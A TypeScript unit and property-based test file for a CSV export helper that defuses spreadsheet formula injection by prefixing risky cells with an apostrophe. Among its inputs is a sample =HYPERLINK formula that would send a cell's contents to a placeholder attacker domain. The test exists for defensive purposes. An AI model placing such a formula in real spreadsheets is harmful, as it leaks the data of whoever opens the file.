import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FORMULA_TRIGGERS, neutraliseFormula } from '../../../lib/csv/neutralise';
import { expectedCell, hostileString } from './csv-testing';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example?x="&A1,"Click")', `'=HYPERLINK("https://evil.example?x="&A1,"Click")`],
    ['+44 20 7946 0958', "'+44 20 7946 0958"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=1+1\nsecond line', "'=1+1\nsecond line"],
    ["'=already guarded", "''=already guarded"],
    ["'tis the season", "''tis the season"],
  ])('prefixes %j with an apostrophe', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });

  it.each(['', 'Ada Lovelace', ' =1+1', 'VP Sales - EMEA', "O'Brien", 'ＡＢＣ', '李小龍', '😀=1'])('leaves %j as it is', (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });

  it('guards exactly the OWASP trigger characters', () => {
    expect(FORMULA_TRIGGERS).toEqual(['=', '+', '-', '@', '\t', '\r']);
  });

  it('never lets a value start with a trigger, and dropping one leading apostrophe gives the value back', () => {
    fc.assert(
      fc.property(hostileString, (value) => {
        const out = neutraliseFormula(value);
        expect(out).toBe(expectedCell(value));
        expect(FORMULA_TRIGGERS).not.toContain(out.charAt(0));
        expect(out.startsWith("'") ? out.slice(1) : out).toBe(value);
      }),
      { numRuns: 500 },
    );
  });
});
